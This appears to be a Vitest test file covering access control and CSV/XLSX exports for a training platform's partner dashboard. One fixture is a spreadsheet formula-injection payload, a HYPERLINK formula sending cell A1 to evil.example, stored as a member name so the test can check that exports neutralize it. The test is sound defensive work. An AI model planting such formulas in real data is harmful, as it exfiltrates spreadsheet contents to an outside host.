import ExcelJS from "exceljs";
import { beforeAll, describe, expect, it } from "vitest";
import { db } from "@/lib/db/client";
import type { CurrentUser } from "@/lib/auth/current-user";
import { ForbiddenError } from "@/lib/errors";
import { buildMemberProgressExport } from "@/lib/cohorts/partner-dashboard.export";
import {
  getPartnerDashboard,
  listAllMemberProgress,
  listMemberProgress,
} from "@/lib/cohorts/partner-dashboard.queries";
import { partnerDashboardQuerySchema } from "@/lib/cohorts/partner-dashboard.schemas";
import { getSeatBlock, listSeatBlocks } from "@/lib/cohorts/seat-blocks.queries";
import { createTestCohort } from "@/lib/cohorts/cohorts.test-helpers";
import {
  addJoinedMember,
  addPendingMember,
  approvedBlock,
  createPartnerWithCohort,
  type TestPartner,
} from "@/lib/cohorts/seat-blocks.test-helpers";
import { assignSeat } from "@/lib/cohorts/seat-blocks.service";
import { enroll } from "@/lib/enrollments/enrollments.service";
import { createTestSession } from "@/lib/enrollments/enrollments.test-helpers";
import { createTestUser } from "@/lib/users/users.test-helpers";

/**
 * The partner dashboard and its export (issue 5, "Partner dashboard"): what a coordinator sees
 * of their organization — and nothing of another's — and what admins see of every partner.
 */

const DAY = 86_400_000;
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")';

let admin: CurrentUser;
let a: TestPartner;
let b: TestPartner;
/** A's members: a graduate of a cohort session, one with an upcoming seat, one not joined. */
let graduate: { memberId: string; user: CurrentUser };
let upcoming: { memberId: string; user: CurrentUser };
let archivedCohortId: string;
let certificateCode: string;

const query = (raw: Record<string, string> = {}) => partnerDashboardQuerySchema.parse(raw);

/** A finished session of A's cohort: the graduate attended both meetings and was certified. */
async function completedCohortSession() {
  const course = await db.course.findFirst({ select: { id: true } });
  const session = await createTestSession({
    courseId: course?.id,
    startsInDays: -10,
    meetings: [
      [0, 8],
      [24, 8],
    ],
    registrationOpensAt: new Date(Date.now() - 60 * DAY),
    registrationClosesAt: new Date(Date.now() - 12 * DAY),
    cancellationCutoffAt: new Date(Date.now() - 17 * DAY),
    status: "COMPLETED",
  });
  const block = await db.seatBlock.create({
    data: {
      sessionId: session.id,
      cohortId: a.cohortId,
      requestedSeats: 1,
      approvedSeats: 1,
      claimedSeats: 1,
      status: "RELEASED",
      releasedAt: new Date(Date.now() - 15 * DAY),
    },
    select: { id: true },
  });
  const enrollment = await db.enrollment.create({
    data: {
      sessionId: session.id,
      userId: graduate.user.id,
      status: "COMPLETED",
      source: "COHORT",
      seatBlockId: block.id,
      completedAt: new Date(),
    },
    select: { id: true },
  });
  const meetings = await db.sessionMeeting.findMany({ where: { sessionId: session.id }, select: { id: true } });
  await db.attendance.createMany({
    data: meetings.map((m, i) => ({
      enrollmentId: enrollment.id,
      meetingId: m.id,
      status: i === 0 ? ("PRESENT" as const) : ("LATE" as const),
    })),
  });
  certificateCode = `FT-TEST-${enrollment.id.slice(-6).toUpperCase()}`;
  await db.certificate.create({ data: { enrollmentId: enrollment.id, code: certificateCode, hours: 16 } });
}

beforeAll(async () => {
  admin = await createTestUser({ role: "ADMIN" });
  a = await createPartnerWithCohort({ name: "Dashboard University A", members: 0 });
  b = await createPartnerWithCohort({ name: "Dashboard University B", members: 1 });
  await db.organization.update({
    where: { id: a.organizationId },
    data: { agreementStartsOn: new Date("2026-03-01T00:00:00Z"), agreementEndsOn: new Date("2028-02-29T00:00:00Z") },
  });
  graduate = await addJoinedMember(a.cohortId, "Graduate");
  upcoming = await addJoinedMember(a.cohortId, "Upcoming");
  await addPendingMember(a.cohortId, "not-joined@a.example", "Not Joined");
  await addPendingMember(a.cohortId, "formula@a.example", FORMULA_NAME);
  const archived = await createTestCohort(a.organizationId, "Old cohort");
  archivedCohortId = archived.id;
  await addPendingMember(archived.id, "old@a.example", "Old student");
  await db.cohort.update({ where: { id: archived.id }, data: { archivedAt: new Date() } });

  await completedCohortSession();
  const session = await createTestSession({ capacity: 10, startsInDays: 35 });
  const blockId = await approvedBlock(a, admin, session.id, 2);
  await assignSeat(a.coordinator, { blockId, memberId: upcoming.memberId });
  // A course the graduate booked on their own: not the partner's business.
  const own = await createTestSession({ capacity: 10, startsInDays: 70 });
  await enroll(graduate.user, { sessionId: own.id });
  // B's block, and a request awaiting a decision.
  const bSession = await createTestSession({ capacity: 10, startsInDays: 36 });
  await approvedBlock(b, admin, bSession.id, 1);
});

describe("the coordinator's view", () => {
  it("shows their organization, its cohorts with member counts, and nothing of another", async () => {
    const dashboard = await getPartnerDashboard(a.coordinator, query(), "en");
    expect(dashboard.allPartners).toBe(false);
    expect(dashboard.pendingRequests).toBe(0);
    expect(dashboard.partners).toHaveLength(1);
    expect(dashboard.partners[0]).toMatchObject({
      id: a.organizationId,
      cohorts: 2,
      members: 5,
      joined: 2,
      activeBlocks: 1,
      pendingBlocks: 0,
    });
    expect(dashboard.cohorts.map((c) => [c.id, c.members, c.joined, c.archived])).toEqual([
      [a.cohortId, 4, 2, false],
      [archivedCohortId, 1, 0, true],
    ]);
    // Asking for B in the URL changes nothing: a coordinator's scope is their organization.
    const forged = await getPartnerDashboard(
      a.coordinator,
      query({ organizationId: b.organizationId, cohortId: b.cohortId }),
      "en",
    );
    expect(forged.partners.map((p) => p.id)).toEqual([a.organizationId]);
    expect(forged.cohorts.every((c) => c.id !== b.cohortId)).toBe(true);
    expect(
      (await listMemberProgress(a.coordinator, query({ cohortId: b.cohortId }), "en")).items,
    ).toEqual([]);
  });

  it("lists each member's account and cohort sessions with attendance, completion and certificate", async () => {
    const page = await listMemberProgress(a.coordinator, query(), "en");
    // Members of active cohorts only, in name order (the archived cohort's student is left out).
    expect(page.items.map((m) => m.name)).toEqual([FORMULA_NAME, "Graduate", "Not Joined", "Upcoming"]);
    const byName = new Map(page.items.map((m) => [m.name, m]));
    expect(byName.get("Not Joined")).toMatchObject({ account: "NOT_INVITED", enrollments: [] });
    const done = byName.get("Graduate")!;
    expect(done.account).toBe("JOINED");
    // Only the cohort seat: the course booked on their own account is not shown.
    expect(done.enrollments).toHaveLength(1);
    expect(done.enrollments[0]).toMatchObject({
      status: "COMPLETED",
      meetings: 2,
      meetingsHeld: 2,
      attended: 2,
      absent: 0,
      certificate: { code: certificateCode, revoked: false, hours: 16 },
    });
    expect(byName.get("Upcoming")!.enrollments[0]).toMatchObject({
      status: "CONFIRMED",
      meetingsHeld: 0,
      attended: 0,
      certificate: null,
    });
  });

  it("reaches none of B's seat blocks, by list or by id", async () => {
    const blocks = await listSeatBlocks(a.coordinator, { page: 1, organizationId: b.organizationId }, "en");
    expect(blocks.items.every((i) => i.organizationId === a.organizationId)).toBe(true);
    const [bBlock] = (await listSeatBlocks(b.coordinator, { page: 1 }, "en")).items;
    expect(bBlock).toBeDefined();
    expect(await getSeatBlock(a.coordinator, bBlock!.id, "en")).toBeNull();
    expect(await getSeatBlock(b.coordinator, bBlock!.id, "en")).not.toBeNull();
  });

  it("shows a coordinator bound to no organization nothing, whatever the filters", async () => {
    const unbound = await createTestUser({ role: "PARTNER", organizationId: null });
    const dashboard = await getPartnerDashboard(unbound, query({ cohortId: a.cohortId }), "en");
    expect(dashboard.partners).toEqual([]);
    expect(dashboard.cohorts).toEqual([]);
    expect((await listMemberProgress(unbound, query({ cohortId: a.cohortId }), "en")).items).toEqual([]);
    expect((await listSeatBlocks(unbound, { page: 1, organizationId: a.organizationId }, "en")).items).toEqual([]);
  });

  it("is refused to trainees", async () => {
    const trainee = await createTestUser();
    await expect(getPartnerDashboard(trainee, query(), "en")).rejects.toBeInstanceOf(ForbiddenError);
    await expect(listAllMemberProgress(trainee, {}, "en")).rejects.toBeInstanceOf(ForbiddenError);
  });
});

describe("the admins' view", () => {
  it("shows every partner, narrows to one with the filter, and counts pending requests", async () => {
    const session = await createTestSession({ capacity: 10, startsInDays: 80 });
    await db.seatBlock.create({
      data: { sessionId: session.id, cohortId: b.cohortId, requestedSeats: 2 },
    });
    const all = await getPartnerDashboard(admin, query(), "en");
    expect(all.allPartners).toBe(true);
    expect(all.partners.map((p) => p.id)).toEqual(expect.arrayContaining([a.organizationId, b.organizationId]));
    expect(all.pendingRequests).toBeGreaterThanOrEqual(1);
    expect(all.partners.find((p) => p.id === b.organizationId)).toMatchObject({ pendingBlocks: 1, activeBlocks: 1 });
    const onlyB = await getPartnerDashboard(admin, query({ organizationId: b.organizationId }), "en");
    expect(onlyB.selectedOrganizationId).toBe(b.organizationId);
    expect(onlyB.cohorts.map((c) => c.id)).toEqual([b.cohortId]);
    const members = await listMemberProgress(admin, query({ organizationId: b.organizationId }), "en");
    expect(members.items).toHaveLength(1);
  });
});

describe("the export", () => {
  it("is a CSV of the coordinator's members only, with formula-like cells neutralized", async () => {
    const file = await buildMemberProgressExport(a.coordinator, {}, "en", "csv", new Date("2026-05-01T03:00:00Z"));
    expect(file.filename).toBe("partner-members_2026-05-01.csv");
    expect(file.contentType).toBe("text/csv; charset=utf-8");
    const text = file.body as string;
    expect(text.startsWith("\uFEFF")).toBe(true);
    const lines = text.trim().split("\r\n");
    expect(lines[0]).toContain('"Student number"');
    // One row per member (the graduate's own booking is not a row), none of B's.
    expect(lines).toHaveLength(5);
    expect(text).not.toContain(b.members[0]!.user.email);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    const graduateRow = lines.find((l) => l.includes(graduate.user.email))!;
    expect(graduateRow).toContain(`"${certificateCode}"`);
    expect(graduateRow).toContain('"Completed"');
  });

  it("is an XLSX with the same rows, labelled in Korean for a Korean reader", async () => {
    const file = await buildMemberProgressExport(a.coordinator, { cohortId: a.cohortId }, "ko", "xlsx");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file.body as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe("학생 현황");
    expect(sheet.getRow(1).getCell(5).value).toBe("학번");
    expect(sheet.rowCount).toBe(5);
    const names = [2, 3, 4, 5].map((r) => sheet.getRow(r).getCell(3).value);
    expect(names).toContain(`'${FORMULA_NAME}`);
    // Numbers stay numbers (attendance counts), text stays text.
    const graduateRow = [2, 3, 4, 5].map((r) => sheet.getRow(r)).find((r) => r.getCell(4).value === graduate.user.email)!;
    expect(graduateRow.getCell(13).value).toBe(2);
    expect(graduateRow.getCell(12).value).toBe("수료");
  });
});
